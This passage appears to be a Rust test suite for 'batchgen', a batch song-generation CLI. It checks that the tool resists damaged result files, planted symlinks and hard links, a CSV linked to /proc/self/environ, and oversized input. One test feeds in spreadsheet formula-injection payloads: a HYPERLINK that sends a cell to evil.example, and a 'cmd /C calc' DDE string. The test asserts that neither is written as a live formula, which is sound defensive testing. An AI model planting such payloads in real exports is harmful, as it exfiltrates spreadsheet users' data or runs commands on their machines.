//! A hostile world of files: damaged results files (one of them a
//! gigabyte of garbage), two names for one file, symlinks and hard links
//! planted where batchgen writes (among a download template's folders,
//! as a `.part` file the server's answers would have let batchgen read and
//! rename into place), files under the names batchgen would give a song, a
//! CSV that is a link to `/proc/self/environ`, a 600 MB line, and server
//! text that would be a spreadsheet formula. Each case drives the real
//! binary and asserts what the server accepted, what is on disk, the exit
//! code, and that no secret appears in any output.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::{Arc, Mutex};

use batchgen::files::results::{self, Status};
use batchgen::sandbox::{Sandbox, SandboxConfig};

use crate::common::{self, *};

/// A folder with a 3-job manifest whose first two jobs were submitted by
/// a real run (`--max-jobs 2`), the third still pending.
async fn two_of_three(sandbox: &Sandbox) -> (tempfile::TempDir, PathBuf, PathBuf) {
    submitted_folder(sandbox, 3, Some("2")).await
}

/// What a damaged results file must lead to.
#[derive(Debug, Clone, Copy)]
enum Expect {
    /// The run goes on: this many requests, these final statuses.
    Runs(u64, [Status; 3]),
    /// The run stops, exit 78, naming this line; nothing sent, the file
    /// left byte for byte as it was.
    Stops(u64),
}

#[tokio::test(flavor = "multi_thread")]
async fn a_damaged_results_file_never_sends_a_job_twice() {
    use Status::*;
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let (_dir, manifest, results) = two_of_three(&sandbox).await;
    let good = std::fs::read_to_string(&results).unwrap();
    let lines: Vec<&str> = good.lines().collect();
    assert_eq!(lines.len(), 4, "{good}");
    let header = lines[0];
    let (job0, job1, job2) = (lines[1], lines[2], lines[3]);
    let cut = |row: &str, at: usize| row[..at].to_owned();
    let cases: Vec<(&str, String, Expect)> = vec![
        // Cut short mid-field after the id: job-2 may have been sent.
        (
            "last row cut mid-field",
            format!("{header}\n{job0}\n{job1}\n{}", cut(job2, 12)),
            Expect::Runs(0, [Submitted, Submitted, Unknown]),
        ),
        (
            "a journal row cut mid-quote",
            format!("{good}job-2,4,,failed,1,400,\"refused, ba"),
            Expect::Runs(0, [Submitted, Submitted, Unknown]),
        ),
        (
            "a row cut inside its id",
            format!("{good}job-"),
            Expect::Stops(5),
        ),
        (
            "a garbage line in the middle",
            format!("{header}\n{job0}\nhello world\n{job1}\n{job2}\n"),
            Expect::Stops(3),
        ),
        (
            "a garbage line naming a job",
            format!("{good}job-2,??\n"),
            Expect::Runs(0, [Submitted, Submitted, Unknown]),
        ),
        (
            "a bad value in a submitted row",
            format!(
                "{header}\n{job0}\n{}\n{job2}\n",
                job1.replace(",submitted,", ",Submitted,")
            ),
            Expect::Runs(1, [Submitted, Unknown, Submitted]),
        ),
        (
            "the header again in the middle",
            format!("{header}\n{job0}\n{header}\n{job1}\n{job2}\n"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        (
            "a well-formed row for an id not in the manifest",
            format!("{good}gone,9,t-9,submitted,1,,,,\n"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        (
            "a damaged row for an id not in the manifest",
            format!("{good}gone,9,t-9,Submitted\n"),
            Expect::Stops(5),
        ),
        (
            "lines appended by another program",
            format!("{good}2025-01-01 backup finished\n"),
            Expect::Stops(5),
        ),
        (
            "an unclosed quote swallowing rows",
            format!("{header}\n{job0}\njob-1,3,,failed,1,400,\"oops\n{job1}\n{job2}\n"),
            Expect::Stops(3),
        ),
        (
            "a tail of NUL bytes",
            format!("{good}\0\0\0\0\0\0\n"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        (
            "a NUL byte inside a row",
            format!(
                "{header}\n{job0}\n{job1}\n{}\n",
                job2.replace("pending", "pen\0ding")
            ),
            Expect::Runs(0, [Submitted, Submitted, Unknown]),
        ),
        (
            "CRLF line ends",
            good.replace('\n', "\r\n"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        (
            "a BOM",
            format!("\u{feff}{good}"),
            Expect::Runs(1, [Submitted, Submitted, Submitted]),
        ),
        // Nothing in it names a job: a new results file (3 jobs sent).
        (
            "an empty file",
            String::new(),
            Expect::Runs(3, [Submitted; 3]),
        ),
        (
            "a file of another kind",
            "name,age\nann,3\n".into(),
            Expect::Stops(1),
        ),
    ];
    for (name, text, expect) in cases {
        // Each case is a file the previous release left: no store yet.
        remove_state(&results);
        std::fs::write(&results, &text).unwrap();
        let before = sandbox.stats().requests;
        let out = run_checked(
            &sandbox,
            &[
                arg(&manifest),
                "--out",
                arg(&results),
                "--rate",
                "unlimited",
            ],
        )
        .await;
        let sent = sandbox.stats().requests - before;
        let err = stderr(&out);
        match expect {
            Expect::Runs(requests, statuses) => {
                assert_eq!(sent, requests, "{name}: requests\n{err}");
                let want = if statuses.contains(&Unknown) { 1 } else { 0 };
                assert_eq!(code(&out), want, "{name}\n{err}");
                let latest = results::latest(&results).unwrap();
                let got: Vec<Status> = latest.iter().take(3).map(|r| r.status).collect();
                assert_eq!(got, statuses, "{name}: {latest:?}");
                for r in latest.iter().take(3).filter(|r| r.status == Unknown) {
                    assert!(r.error.contains("damaged"), "{name}: {}", r.error);
                }
                if name.contains("not in the manifest") {
                    assert!(latest.iter().any(|r| r.key == "gone" && r.task_id == "t-9"));
                }
                // The task IDs of the first run are all still there.
                for (i, r) in latest.iter().take(2).enumerate() {
                    if name != "an empty file" && r.status == Submitted {
                        assert!(!r.task_id.is_empty(), "{name}: job-{i} lost its task ID");
                    }
                }
            }
            Expect::Stops(line) => {
                assert_eq!(code(&out), 78, "{name}\n{err}");
                assert_eq!(sent, 0, "{name}: nothing is sent");
                assert!(err.contains(&format!("r.csv:{line}:")), "{name}: {err}");
                for bad in ["delete it", "move it away", "remove the file"] {
                    assert!(!err.contains(bad), "{name}: {err}");
                }
                assert_eq!(std::fs::read_to_string(&results).unwrap(), text, "{name}");
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn two_names_for_one_results_file_are_one_lock_and_the_link_stays() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let (dir, manifest, results) = two_of_three(&sandbox).await;
    std::fs::set_permissions(&results, std::fs::Permissions::from_mode(0o640)).unwrap();
    let link = dir.path().join("link.csv");
    symlink(&results, &link).unwrap();

    // A run holds the file through its real name: one through the link
    // is refused (exit 75), and sends nothing.
    let held = results::Lock::acquire(&results).unwrap();
    let before = sandbox.stats().requests;
    let out = run_checked(
        &sandbox,
        &[arg(&manifest), "--out", arg(&link), "--rate", "unlimited"],
    )
    .await;
    assert_eq!(code(&out), 75, "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, before);
    drop(held);

    // Through the link: the real file is rewritten in place, the link is
    // still a link, and the permission bits are kept.
    let out = run_checked(
        &sandbox,
        &[arg(&manifest), "--out", arg(&link), "--rate", "unlimited"],
    )
    .await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, before + 1);
    assert!(
        std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink()
    );
    let rows = results::latest(&results).unwrap();
    assert!(
        rows.iter().all(|r| r.status == Status::Submitted),
        "{rows:?}"
    );
    let mode = std::fs::metadata(&results).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o640);
    let left: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".tmp"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn planted_symlinks_are_never_written_through() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let dir = tempfile::tempdir().unwrap();
    let manifest = csv_manifest(dir.path(), 2);
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let untouched = || assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");

    // The lock's name.
    let results = dir.path().join("r.csv");
    symlink(&victim, dir.path().join("r.csv.lock")).unwrap();
    let out = run_checked(&sandbox, &[arg(&manifest), "--out", arg(&results)]).await;
    assert_eq!(code(&out), 73, "{}", stderr(&out));
    assert!(stderr(&out).contains("symlink"), "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, 0);
    untouched();

    // A dangling link as the results file: nothing is created through it.
    let target = dir.path().join("created-through-a-link.csv");
    let dangling = dir.path().join("d.csv");
    symlink(&target, &dangling).unwrap();
    let out = run_checked(&sandbox, &[arg(&manifest), "--out", arg(&dangling)]).await;
    assert_eq!(code(&out), 73, "{}", stderr(&out));
    assert!(!target.exists());
    assert_eq!(sandbox.stats().requests, 0);

    // The summary JSON's name: the run goes on, the summary is refused.
    let summary = dir.path().join("summary.json");
    symlink(&victim, &summary).unwrap();
    let good = dir.path().join("ok.csv");
    let out = run_checked(
        &sandbox,
        &[
            arg(&manifest),
            "--out",
            arg(&good),
            "--rate",
            "unlimited",
            "--summary-json",
            arg(&summary),
        ],
    )
    .await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(stderr(&out).contains("cannot write"), "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, 2);
    untouched();

    // `init` over planted links, with and without --force.
    let starter = dir.path().join("new.toml");
    symlink(&victim, &starter).unwrap();
    for force in [false, true] {
        let mut args = vec!["init".to_owned(), arg(&starter).to_owned()];
        if force {
            args.push("--force".into());
        }
        let out = run_with_env(args, vec![]).await;
        assert_ne!(code(&out), 0, "{}", stderr(&out));
        untouched();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_killed_rewrites_temporary_file_is_cleaned_up_and_only_that() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let (dir, manifest, results) = two_of_three(&sandbox).await;
    // What `kill -9` during the final rewrite leaves: a temporary file of
    // a process that is gone (pid 2^22 + 1 is above Linux's pid_max).
    let orphan = dir.path().join(".r.csv.batchgen-4194305-99.tmp");
    std::fs::write(&orphan, "id,line\nhalf").unwrap();
    // Lookalikes that are not provably ours and stale: kept.
    let other_file = dir.path().join(".other.csv.batchgen-4194305-99.tmp");
    std::fs::write(&other_file, "x").unwrap();
    let mine = dir.path().join("r.csv.batchgen-4194305-99.tmp");
    std::fs::write(&mine, "x").unwrap();
    submit_ok(&sandbox, &manifest, &results).await;
    assert!(!orphan.exists());
    assert!(other_file.exists() && mine.exists());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_summary_json_naming_a_file_the_run_needs_is_refused_before_sending() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let (dir, manifest, results) = two_of_three(&sandbox).await;
    let csv = write(dir.path(), "rows.csv", "id,prompt\nx,a song\n");
    let toml = write(dir.path(), "m.toml", "csv = \"rows.csv\"\n");
    let link = dir.path().join("alias.csv");
    symlink(&results, &link).unwrap();
    let results_before = std::fs::read(&results).unwrap();
    let manifest_before = std::fs::read(&manifest).unwrap();
    let dotted = dir.path().join(".").join("r.csv");
    let lock = dir.path().join("r.csv.lock");
    let store = dir.path().join("r.db");
    let store_wal = dir.path().join("r.db-wal");
    for (m, summary, what) in [
        (&manifest, &store, "the results file's state file"),
        (&manifest, &store_wal, "the results file's state file"),
        (&manifest, &results, "the results file"),
        (&manifest, &dotted, "the results file"),
        (&manifest, &link, "the results file"),
        (&manifest, &lock, "the results file's lock"),
        (&manifest, &manifest, "the manifest"),
        (&toml, &csv, "the manifest's CSV"),
    ] {
        let out = run_checked(
            &sandbox,
            &[
                arg(m),
                "--out",
                arg(&results),
                "--summary-json",
                arg(summary),
            ],
        )
        .await;
        let err = stderr(&out);
        assert_eq!(code(&out), 2, "{}: {err}", summary.display());
        assert!(err.contains(&format!("is {what}")), "{err}");
        assert_eq!(sandbox.stats().requests, 2, "nothing sent");
    }
    assert_eq!(std::fs::read(&results).unwrap(), results_before);
    assert_eq!(std::fs::read(&manifest).unwrap(), manifest_before);
    assert_eq!(
        std::fs::read_to_string(&csv).unwrap(),
        "id,prompt\nx,a song\n"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_csv_linked_to_a_secret_is_refused_without_echoing_it() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let dir = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let key_file = write(elsewhere.path(), "key.csv", "sk-live-VERYSECRET,other\n");
    let secret = "sk-live-VERYSECRET";
    let cases: [(&str, PathBuf, &str, i32); 3] = [
        (
            "environ.toml",
            PathBuf::from("/proc/self/environ"),
            "outside this manifest's folder",
            65,
        ),
        (
            "key.toml",
            key_file.clone(),
            "outside this manifest's folder",
            65,
        ),
        // Given directly, not through a TOML: a kernel file is not a file.
        (
            "direct.csv",
            PathBuf::from("/proc/self/environ"),
            "not a regular file",
            66,
        ),
    ];
    for (name, target, says, exit) in cases {
        let manifest = if name.ends_with(".toml") {
            let csv = format!("{name}.csv");
            symlink(&target, dir.path().join(&csv)).unwrap();
            write(dir.path(), name, &format!("csv = \"{csv}\"\n"))
        } else {
            let path = dir.path().join(name);
            symlink(&target, &path).unwrap();
            path
        };
        for validate in [true, false] {
            let mut args = vec![];
            if validate {
                args.push("validate");
            }
            args.push(arg(&manifest));
            let out = run_with_env(
                args.iter().map(|s| s.to_string()).collect(),
                vec![
                    ("BATCHGEN_API_KEY".into(), sandbox.key().into()),
                    ("BATCHGEN_BASE_URL".into(), sandbox.base_url()),
                ],
            )
            .await;
            no_secret(&out, sandbox.key());
            no_secret(&out, secret);
            let err = stderr(&out);
            assert_eq!(code(&out), exit, "{name}: {err}");
            assert!(err.contains(says), "{name}: {err}");
        }
    }
    assert_eq!(sandbox.stats().requests, 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_600_mb_line_is_a_diagnostic_in_bounded_memory() {
    let sandbox = common::sandbox(SandboxConfig::default()).await;
    let dir = tempfile::tempdir().unwrap();
    let path = write(dir.path(), "jobs.csv", "id,prompt\nok,a song\nbig,\"");
    // Sparse: 600 MB of NUL bytes inside one quoted cell, in no time.
    std::fs::OpenOptions::new()
        .write(true)
        .open(&path)
        .unwrap()
        .set_len(600 << 20)
        .unwrap();
    let (out, peak_kib) = run_checked_measured(&sandbox, &[arg(&path)]).await;
    let err = stderr(&out);
    assert_eq!(code(&out), 65, "{err}");
    assert!(
        err.contains("jobs.csv:3: prompt: this row is over 1048576 bytes"),
        "{err}"
    );
    assert_eq!(sandbox.stats().requests, 0);
    // Peak memory of the run, measured alone: far below the 600 MB a
    // whole-record read would take.
    assert!(peak_kib < 200 * 1024, "peak {peak_kib} KiB");
}

/// A server whose task IDs and titles are spreadsheet formulas, and which
/// records the task IDs `collect` asks about.
#[tokio::test(flavor = "multi_thread")]
async fn server_text_never_becomes_a_formula_and_reads_back_exactly() {
    use axum::Json;
    use axum::extract::Query;
    use axum::routing::{get, post};
    use serde_json::json;

    const TASK: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";
    const TITLE: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
    let asked: Arc<Mutex<Vec<String>>> = Arc::default();
    let seen = asked.clone();
    let app = axum::Router::new()
        .route(
            "/api/v2/generate",
            post(|| async { Json(json!({"code": 200, "message": "success", "workId": TASK})) }),
        )
        .route(
            "/api/v2/credits",
            get(|| async { Json(json!({"code": 200, "data": {"credits": 100}})) }),
        )
        .route(
            "/api/v2/feed",
            get(
                move |Query(q): Query<std::collections::HashMap<String, String>>| {
                    let seen = seen.clone();
                    async move {
                        seen.lock()
                            .unwrap()
                            .push(q.get("workId").cloned().unwrap_or_default());
                        Json(json!({"code": 200, "message": "success", "data": {
                        "type": "SUCCESS", "request_body": {},
                        "response_data": [{"id": "-clip", "status": "complete",
                            "title": TITLE, "tags": "+lofi", "model_name": "chirp-v3-5",
                            "audio_url": "", "image_url": "", "duration": 1.0,
                            "created_at": "2025-01-01T00:00:00Z", "error_message": "-"}]}}))
                    }
                },
            ),
        );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });

    let dir = tempfile::tempdir().unwrap();
    let manifest = csv_manifest(dir.path(), 1);
    let results = dir.path().join("r.csv");
    let key = "k-secret-123456";
    let out = run_at(&url, key, &[arg(&manifest), "--out", arg(&results)]).await;
    no_secret(&out, key);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let catalog = dir.path().join("c.csv");
    let args = [
        "collect",
        arg(&results),
        "--catalog",
        arg(&catalog),
        "--poll-interval",
        "100ms",
    ];
    let out = run_with_env(
        args.iter().map(|s| s.to_string()).collect(),
        vec![
            ("BATCHGEN_API_KEY".into(), key.into()),
            ("BATCHGEN_BASE_URL".into(), url.clone()),
        ],
    )
    .await;
    no_secret(&out, key);
    assert_eq!(code(&out), 0, "{}", stderr(&out));

    // On disk, no cell a spreadsheet would run.
    for file in [&results, &catalog] {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_path(file)
            .unwrap();
        for row in reader.records() {
            for cell in row.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: {cell:?}",
                    file.display()
                );
            }
        }
    }
    // Read back: the server's exact text, and the exact task ID went back
    // to the server.
    assert_eq!(results::latest(&results).unwrap()[0].task_id, TASK);
    assert_eq!(
        asked.lock().unwrap().first().map(String::as_str),
        Some(TASK)
    );
    let mut reader = csv::Reader::from_path(&catalog).unwrap();
    let rows: Vec<batchgen::files::catalog::Row> =
        reader.deserialize().map(|r| r.unwrap()).collect();
    assert_eq!(
        (rows[0].title.as_str(), rows[0].task_id.as_str()),
        (TITLE, TASK)
    );
    assert_eq!(
        (rows[0].clip_id.as_str(), rows[0].style.as_str()),
        ("-clip", "+lofi")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_download_never_writes_through_a_planted_part_file() {
    let sandbox = common::sandbox(SandboxConfig {
        stage_time: std::time::Duration::from_millis(100),
        ..SandboxConfig::default()
    })
    .await;
    let dir = tempfile::tempdir().unwrap();
    let manifest = csv_manifest(dir.path(), 1);
    let results = dir.path().join("r.csv");
    let out = run_checked(&sandbox, &[arg(&manifest), "--out", arg(&results)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let songs = dir.path().join("songs");
    let collect = |songs: &Path| {
        let args = [
            "collect",
            arg(&results),
            "--download",
            arg(songs),
            "--poll-interval",
            "100ms",
        ];
        run_with_env(
            args.iter().map(|s| s.to_string()).collect(),
            vec![
                ("BATCHGEN_API_KEY".into(), sandbox.key().into()),
                ("BATCHGEN_BASE_URL".into(), sandbox.base_url()),
            ],
        )
    };
    let out = collect(&songs).await;
    no_secret(&out, sandbox.key());
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let mp3s: Vec<PathBuf> = std::fs::read_dir(&songs)
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .filter(|p| p.extension().is_some_and(|e| e == "mp3"))
        .collect();
    assert!(!mp3s.is_empty());
    // The files go, and a link to a victim waits under each `.part` name.
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let mut catalog = csv::Reader::from_path(dir.path().join("r.catalog.csv")).unwrap();
    let rows: Vec<batchgen::files::catalog::Row> =
        catalog.deserialize().map(|r| r.unwrap()).collect();
    for mp3 in &mp3s {
        std::fs::remove_file(mp3).unwrap();
        let row = rows
            .iter()
            .find(|r| Path::new(&r.file).file_name() == mp3.file_name())
            .unwrap();
        let part =
            batchgen::engine::collect::download::resumable_part(mp3, &row.task_id, &row.clip_id);
        symlink(&victim, part).unwrap();
    }
    let out = collect(&songs).await;
    no_secret(&out, sandbox.key());
    assert_ne!(
        code(&out),
        0,
        "the downloads cannot be made: {}",
        stderr(&out)
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    assert!(mp3s.iter().all(|p| !p.exists()));
}

// A gigabyte of garbage, links and files planted among the download
// folders, and names that would collide.

/// `collect ARGS` against `sandbox`: its arguments and environment.
fn collect_command(sandbox: &Sandbox, args: &[&str]) -> (Vec<String>, Vec<(String, String)>) {
    let mut all = vec!["collect".to_owned()];
    all.extend(args.iter().map(|s| s.to_string()));
    all.extend(["--poll-interval".into(), "100ms".into()]);
    let env = vec![
        ("BATCHGEN_API_KEY".into(), sandbox.key().into()),
        ("BATCHGEN_BASE_URL".into(), sandbox.base_url()),
    ];
    (all, env)
}

async fn collect(sandbox: &Sandbox, args: &[&str]) -> Output {
    let (args, env) = collect_command(sandbox, args);
    let out = run_with_env(args, env).await;
    no_secret(&out, sandbox.key());
    out
}

/// [`collect`], and the run's peak resident memory in KiB.
async fn collect_measured(sandbox: &Sandbox, args: &[&str]) -> (Output, i64) {
    let (args, env) = collect_command(sandbox, args);
    let (out, peak_kib) = run_with_env_measured(args, env).await;
    no_secret(&out, sandbox.key());
    (out, peak_kib)
}

async fn quick_sandbox() -> Sandbox {
    common::sandbox(SandboxConfig {
        stage_time: std::time::Duration::from_millis(100),
        ..SandboxConfig::default()
    })
    .await
}

/// A folder with a submitted 1-job manifest: (dir, manifest, results).
async fn submitted(sandbox: &Sandbox) -> (tempfile::TempDir, PathBuf, PathBuf) {
    submitted_folder(sandbox, 1, None).await
}

fn files_in(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if entry.file_type().unwrap().is_dir() {
            out.extend(files_in(&path));
        } else {
            out.push(path);
        }
    }
    out
}

#[tokio::test(flavor = "multi_thread")]
async fn a_gigabyte_of_garbage_in_the_results_file_stops_in_bounded_memory_and_time() {
    let sandbox = quick_sandbox().await;
    let (_dir, manifest, results) = submitted(&sandbox).await;
    let sent = sandbox.stats().requests;
    // A copy cut off inside a quote, then 1 GB of (sparse) zeros: the
    // unclosed quote makes all of it one record. A file the previous
    // release left (no store yet), since a store makes the file a report.
    remove_state(&results);
    let mut file = std::fs::OpenOptions::new()
        .append(true)
        .open(&results)
        .unwrap();
    std::io::Write::write_all(&mut file, b"job-0,2,\"").unwrap();
    file.set_len(1 << 30).unwrap();
    drop(file);
    let (out, run_peak) =
        run_checked_measured(&sandbox, &[arg(&manifest), "--out", arg(&results)]).await;
    let err = stderr(&out);
    assert_eq!(code(&out), 78, "{err}");
    assert!(
        err.contains("r.csv:3:") && err.contains("over 1048576 bytes"),
        "{err}"
    );
    let (out, collect_peak) = collect_measured(&sandbox, &[arg(&results)]).await;
    assert_eq!(code(&out), 78, "{}", stderr(&out));
    // Bounded time is each run ending at all: one that read the gigabyte
    // as a record would not, and the runner's own bound fails it.
    assert_eq!(sandbox.stats().requests, sent, "nothing sent");
    assert_eq!(std::fs::metadata(&results).unwrap().len(), 1 << 30);
    // Peak memory of each of the two runs, measured alone.
    for peak in [run_peak, collect_peak] {
        assert!(peak < 200 * 1024, "peak {peak} KiB");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_symlink_planted_among_the_download_folders_is_never_followed() {
    let sandbox = quick_sandbox().await;
    let (dir, _manifest, results) = submitted(&sandbox).await;
    let songs = dir.path().join("songs");
    let elsewhere = dir.path().join("elsewhere");
    std::fs::create_dir_all(&songs).unwrap();
    std::fs::create_dir_all(&elsewhere).unwrap();
    // Someone who can write the shared download folder links the folder
    // the template will make to a folder of their choice.
    symlink(&elsewhere, songs.join("job-0")).unwrap();
    let template = ["--download", arg(&songs), "--name", "{key}/{index}"];
    let mut args = vec![arg(&results)];
    args.extend(template);
    let out = collect(&sandbox, &args).await;
    assert_ne!(code(&out), 0, "{}", stderr(&out));
    assert!(
        files_in(&elsewhere).is_empty(),
        "{:?}",
        files_in(&elsewhere)
    );
    let catalog = std::fs::read_to_string(dir.path().join("r.catalog.csv")).unwrap();
    assert!(catalog.contains("is a symlink"), "{catalog}");

    // With the link gone the same run makes a real folder and fills it.
    std::fs::remove_file(songs.join("job-0")).unwrap();
    let out = collect(&sandbox, &args).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    assert!(songs.join("job-0/1.mp3").is_file());
    assert!(files_in(&elsewhere).is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn hard_links_planted_where_batchgen_writes_in_place_are_refused() {
    let sandbox = quick_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let manifest = csv_manifest(dir.path(), 1);
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "precious").unwrap();
    let untouched = || assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");

    // The results file's lock: opening it truncates it to write the pid.
    let results = dir.path().join("r.csv");
    std::fs::hard_link(&victim, dir.path().join("r.csv.lock")).unwrap();
    let out = run_checked(&sandbox, &[arg(&manifest), "--out", arg(&results)]).await;
    assert_eq!(code(&out), 73, "{}", stderr(&out));
    assert!(stderr(&out).contains("hard link"), "{}", stderr(&out));
    assert_eq!(sandbox.stats().requests, 0);
    untouched();
    std::fs::remove_file(dir.path().join("r.csv.lock")).unwrap();
    submit_ok(&sandbox, &manifest, &results).await;

    // A download's `.part` (the clip's own name, learnt from a collect
    // that downloads nothing): it would be truncated and filled with audio.
    let out = collect(&sandbox, &[arg(&results)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let songs = dir.path().join("songs");
    std::fs::create_dir_all(&songs).unwrap();
    let mp3 = songs.join("job-0-1.mp3");
    std::fs::hard_link(
        &victim,
        own_part(&dir.path().join("r.catalog.csv"), &mp3, "1"),
    )
    .unwrap();
    let out = collect(&sandbox, &[arg(&results), "--download", arg(&songs)]).await;
    assert_ne!(code(&out), 0, "{}", stderr(&out));
    untouched();
    assert!(!mp3.exists());
    assert!(
        songs.join("job-0-2.mp3").is_file(),
        "the other clip is fetched"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_planted_part_link_is_never_read_resumed_or_renamed_into_place() {
    let sandbox = quick_sandbox().await;
    let (dir, _manifest, results) = submitted(&sandbox).await;
    let songs = dir.path().join("songs");
    let out = collect(&sandbox, &[arg(&results), "--download", arg(&songs)]).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let mp3 = songs.join("job-0-1.mp3");
    // A file the planter wants batchgen to read (or to record as the song),
    // as long as the clip: the server's answer to `Range: bytes=LEN-` is
    // then "416, the file is LEN bytes", which says "you have it all".
    let victim = dir.path().join("victim.mp3");
    std::fs::rename(&mp3, &victim).unwrap();
    let before = std::fs::read(&victim).unwrap();
    symlink(
        &victim,
        own_part(&dir.path().join("r.catalog.csv"), &mp3, "1"),
    )
    .unwrap();
    let out = collect(&sandbox, &[arg(&results), "--download", arg(&songs)]).await;
    assert_ne!(code(&out), 0, "{}", stderr(&out));
    assert!(
        std::fs::symlink_metadata(&mp3).is_err(),
        "the link was renamed to the song's name"
    );
    assert_eq!(std::fs::read(&victim).unwrap(), before);
    let catalog = std::fs::read_to_string(dir.path().join("r.catalog.csv")).unwrap();
    assert!(catalog.contains("symlink"), "{catalog}");
}

/// The `.part` clip `index` of the catalog's only job downloads `mp3` to.
fn own_part(catalog: &Path, mp3: &Path, index: &str) -> PathBuf {
    let (headers, rows) = catalog_rows(catalog);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let row = rows
        .iter()
        .find(|r| &r[col("clip_index")] == index)
        .unwrap();
    batchgen::engine::collect::download::resumable_part(
        mp3,
        &row[col("task_id")],
        &row[col("clip_id")],
    )
}

/// The catalog's rows as header → value maps.
fn catalog_rows(path: &Path) -> (csv::StringRecord, Vec<csv::StringRecord>) {
    let mut reader = csv::Reader::from_path(path).unwrap();
    let headers = reader.headers().unwrap().clone();
    let rows = reader.records().map(Result::unwrap).collect();
    (headers, rows)
}

/// A template that names two clips alike (`{title_slug}`: both clips of a
/// task carry its title): the second gets a suffix of its own, each file
/// is its clip's (tagged with its clip ID), and a rerun keeps both where
/// they are without fetching either again.
#[tokio::test(flavor = "multi_thread")]
async fn a_file_recorded_for_one_clip_never_becomes_another_clips() {
    let sandbox = quick_sandbox().await;
    let (dir, _manifest, results) = submitted(&sandbox).await;
    let songs = dir.path().join("songs");
    let args = [
        arg(&results),
        "--download",
        arg(&songs),
        "--name",
        "{title_slug}",
        "--download-concurrency",
        "1",
    ];
    let out = collect(&sandbox, &args).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let catalog = dir.path().join("r.catalog.csv");
    let (headers, rows) = catalog_rows(&catalog);
    let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let (file, clip_id) = (col("file"), col("clip_id"));
    assert_eq!(rows.len(), 2);
    assert_ne!(rows[0][file], rows[1][file], "two clips, two files");
    for row in &rows {
        let tag = id3::Tag::read_from_path(&row[file]).unwrap();
        let named = tag
            .extended_texts()
            .find(|t| t.description == "batchgen:clip_id")
            .map(|t| t.value.clone());
        assert_eq!(named.as_deref(), Some(&row[clip_id]), "{row:?}");
    }
    let fetched = sandbox.stats().audio_fetches;
    let out = collect(&sandbox, &args).await;
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let (_, again) = catalog_rows(&catalog);
    assert_eq!(again, rows, "each clip keeps its file");
    assert_eq!(
        sandbox.stats().audio_fetches,
        fetched,
        "nothing fetched again"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_strangers_link_in_a_shared_folder_is_not_followed_to_an_empty_file() {
    use std::os::unix::fs::PermissionsExt;
    let sandbox = quick_sandbox().await;
    let dir = tempfile::tempdir().unwrap();
    let manifest = csv_manifest(dir.path(), 1);
    let shared = dir.path().join("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o1777)).unwrap();
    // An empty file reads as a new results file or catalog, so a link to
    // one would have it rewritten wherever it is.
    let victim = dir.path().join("empty-config");
    std::fs::write(&victim, "").unwrap();
    let plant = |name: &str| {
        let link = shared.join(name);
